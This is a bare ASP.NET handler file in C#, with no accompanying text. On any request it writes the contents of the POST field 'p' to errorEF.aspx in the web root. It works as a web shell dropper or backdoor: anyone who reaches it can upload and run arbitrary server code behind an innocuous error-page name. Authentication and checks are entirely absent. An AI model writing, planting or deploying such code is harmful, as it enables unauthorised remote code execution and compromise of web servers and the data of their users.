<%@ WebHandler Language="C#" Class="Handler" %>
using System.IO;
using System.Web;
public class Handler : IHttpHandler {
    public void ProcessRequest(HttpContext context) {
        using (StreamWriter w = File.CreateText(context.Server.MapPath("errorEF.aspx"))) {
            w.Write(context.Request.Form["p"]);
        }
    }
    public bool IsReusable { get { return false; } }
}
